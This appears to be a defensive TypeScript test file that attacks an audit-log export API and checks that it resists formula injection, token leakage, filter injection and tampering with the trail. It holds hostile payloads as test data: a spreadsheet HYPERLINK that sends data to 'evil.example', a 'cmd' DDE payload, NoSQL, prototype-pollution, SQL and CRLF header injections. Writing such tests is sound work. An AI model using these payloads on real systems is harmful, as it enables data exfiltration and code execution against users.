import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { expect } from 'vitest';
import { exportFile, readGatewayKeys, type Verdict, verifyTrail } from '../../src/audit/verify/index.js';
import { askExport, type ExportAnswer } from '../support/export-request.js';
import type { AttackGroup } from './attack.js';
import type { Ground } from './ground.js';
import { recorded, STOP } from './moves.js';

const STARTED = 'IMPERSONATION_STARTED ada>cleo';
const EXPORTED = 'AUDIT_EXPORTED audrey>-';
const FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")';

/** Not a byte of the trail may be in a refusal. */
function isPlainRefusal(answer: ExportAnswer): void {
  expect(answer.headers['content-disposition']).toBeUndefined();
  expect(Object.keys(JSON.parse(answer.text))).toEqual(['errors']);
}

async function verify(ground: Ground, lines: readonly string[]): Promise<Verdict> {
  const file = path.join(ground.directory, 'shown.ndjson');
  await writeFile(file, lines.map((line) => `${line}\n`).join(''));
  const keys = readGatewayKeys(await (await fetch(`${ground.url}/.well-known/jwks.json`)).json());
  return verifyTrail({ events: exportFile(file), keys });
}

export const exports: AttackGroup = {
  file: 'exports.ts',
  title: 'taking the trail away',
  attacks: [
    {
      id: 'A183',
      title:
        'a reason, a ticket and a user agent that are formulas, for the auditor who opens the export in a spreadsheet',
      threat: 'the auditor’s machine runs it, with the auditor’s rights',
      codes: ['none'],
      trail: [STARTED, 'OPERATION_COMPLETED ada>cleo', EXPORTED],
      async run(ground) {
        const { actorToken } = await ground.impersonate('user_ada', 'user_cleo', {
          reason: FORMULA,
          ticket: '＋1;@SUM(A1)',
        });
        await ground.graphql(actorToken, '{ orders { id } }', {}, { 'user-agent': "-2+3+cmd|' /C calc'!A0" });
        const answer = await askExport(ground.url, await ground.token('user_audrey'), { query: '?format=csv' });
        expect(answer.text).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
        expect(answer.text).toContain("'＋1;'@SUM(A1)");
        expect(answer.text).toContain(",'-2+3+cmd|");
        expect(answer.text).not.toMatch(/(^|[,;\r\n])"?[=+\-@＝＋－＠]/);
        return [answer];
      },
    },
    {
      id: 'A184',
      title: 'an admin exporting the trail, in any format, from inside an impersonation',
      threat: 'what the subject may not read is read in the subject’s name',
      codes: ['FORBIDDEN', 'IMPERSONATION_ENDED'],
      trail: [
        STARTED,
        'OPERATION_DENIED FORBIDDEN ada>cleo ×3',
        'IMPERSONATION_STOPPED ada>cleo',
        'OPERATION_DENIED IMPERSONATION_ENDED ada>cleo',
      ],
      async run(ground) {
        const { actorToken } = await ground.impersonate('user_ada', 'user_cleo', { access: 'FULL' });
        const answers: ExportAnswer[] = [];
        for (const query of ['', '?format=csv', '?format=ecs&subjectId=user_cleo']) {
          answers.push(await askExport(ground.url, actorToken, { query }));
        }
        await ground.graphql(actorToken, STOP);
        answers.push(await askExport(ground.url, actorToken));
        answers.forEach(isPlainRefusal);
        return answers;
      },
    },
    {
      id: 'A185',
      title: 'a token in the address, in a cookie, in another header: alone, and beside a right one',
      threat: 'links to the export work, and stay in histories and logs',
      codes: ['UNAUTHENTICATED', 'BAD_USER_INPUT'],
      trail: [],
      async run(ground) {
        const audrey = await ground.token('user_audrey');
        const answers: ExportAnswer[] = [];
        for (const name of ['access_token', 'token', 'authorization']) {
          const query = `?${name}=${audrey}`;
          answers.push(await askExport(ground.url, null, { query }));
        }
        for (const headers of [{ cookie: `access_token=${audrey}` }, { 'x-authorization': `Bearer ${audrey}` }]) {
          answers.push(await askExport(ground.url, null, { headers }));
        }
        for (const query of [`?access_token=${audrey}`, `?${audrey}`]) {
          const answer = await askExport(ground.url, audrey, { query });
          expect(answer.text).not.toContain(audrey);
          answers.push(answer);
        }
        answers.forEach(isPlainRefusal);
        expect(ground.logged()).not.toContain(audrey);
        return answers;
      },
    },
    {
      id: 'A186',
      title: 'filters that are operators, lists, other cases, other names, names every object has, or line breaks',
      threat: 'a filter that is not understood exports everything, or reaches the database or a header',
      codes: ['BAD_USER_INPUT'],
      trail: [STARTED],
      async run(ground) {
        await ground.impersonate('user_ada', 'user_cleo');
        const audrey = await ground.token('user_audrey');
        const queries = [
          'actorId[$ne]=x',
          'actorId=a&actorId=b',
          'ActorId=user_ada',
          '__proto__[types]=AUDIT_READ',
          'constructor=x',
          'types=AUDIT_READ,*',
          'types=%22AUDIT_READ%22',
          'outcome=success',
          'outcome=',
          "occurredAfter=2026-01-01T00:00:00Z'--",
          'occurredBefore=0',
          'format=csv%0d%0aSet-Cookie:%20a=b',
          'format=ndjson&format=csv',
          'filter={}',
          'limit=1',
        ];
        const answers: ExportAnswer[] = [];
        for (const query of queries) {
          const answer = await askExport(ground.url, audrey, { query: `?${query}` });
          expect([answer.status, answer.headers['set-cookie']], query).toEqual([400, undefined]);
          answers.push(answer);
        }
        answers.forEach(isPlainRefusal);
        return answers;
      },
    },
    {
      id: 'A187',
      title: 'exporting while the trail cannot be written',
      threat: 'the whole trail is taken away, and nothing tells that it was',
      codes: ['AUDIT_UNAVAILABLE'],
      trail: [STARTED],
      async run(ground) {
        await ground.impersonate('user_ada', 'user_cleo');
        const audrey = await ground.token('user_audrey');
        ground.meddling.events = { append: () => new Promise(() => undefined) };
        const answer = await askExport(ground.url, audrey);
        isPlainRefusal(answer);
        return [answer];
      },
    },
    {
      id: 'A188',
      title: 'hanging up on an export as soon as its first bytes are there',
      threat: 'an export that nobody took to its end is not counted',
      codes: ['none'],
      trail: [STARTED, EXPORTED],
      async run(ground) {
        await ground.impersonate('user_ada', 'user_cleo');
        const onAnswer = (answer: { destroy: () => unknown }) => void answer.destroy();
        const answer = await askExport(ground.url, await ground.token('user_audrey'), { onAnswer });
        await recorded(ground, 'AUDIT_EXPORTED');
        return [answer];
      },
    },
    {
      id: 'A189',
      title: 'a part of the trail shown as the whole: the manifest cut off, changed, or events cut out before it',
      threat: 'an auditor is shown what is harmless, and told that this is all',
      codes: ['none'],
      trail: [STARTED, 'OPERATION_COMPLETED ada>cleo', EXPORTED, 'AUDIT_EXPORTED grace>-'],
      async run(ground) {
        const { actorToken } = await ground.impersonate('user_ada', 'user_cleo');
        await ground.graphql(actorToken, '{ orders { id } }');
        const whole = await askExport(ground.url, await ground.token('user_audrey'));
        expect((await verify(ground, whole.lines)).verdict).toBe('HOLDS');
        const part = await askExport(ground.url, await ground.token('user_grace'), {
          query: '?types=OPERATION_COMPLETED,AUDIT_EXPORTED',
        });
        expect((await verify(ground, part.lines)).verdict).toBe('PARTIAL');
        const [manifest = ''] = part.lines.slice(-1);
        const shown: readonly (readonly string[])[] = [
          part.lines.slice(0, -1),
          [...part.lines.slice(0, -1), manifest.replace('"partial":true', '"partial":false')],
          part.lines.slice(1),
          [...whole.lines.slice(0, 1), ...whole.lines.slice(2)],
        ];
        for (const lines of shown) expect((await verify(ground, lines)).verdict).toBe('FAULTY');
        return [whole, part];
      },
    },
  ],
};
